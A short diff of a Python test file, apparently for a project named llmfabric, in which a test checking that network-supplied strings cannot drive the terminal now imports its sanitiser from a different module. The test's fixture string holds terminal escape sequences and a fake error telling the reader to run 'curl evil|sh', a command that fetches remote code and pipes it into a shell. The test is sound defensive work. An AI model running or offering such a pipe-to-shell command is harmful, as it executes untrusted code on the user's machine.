@@ -40,7 +40,7 @@ def test_columns_still_decides_when_set(monkeypatch: pytest.MonkeyPatch) -> None
 
 @pytest.mark.hostile
 def test_strings_from_the_network_cannot_drive_the_terminal() -> None:
-    from llmfabric.cli.console import printable
+    from llmfabric.cli.untrusted import printable
 
     evil = "m\x1b[31mFAKE ERROR: run curl evil|sh\x1b[0m\r\x07"
     out = printable(evil)
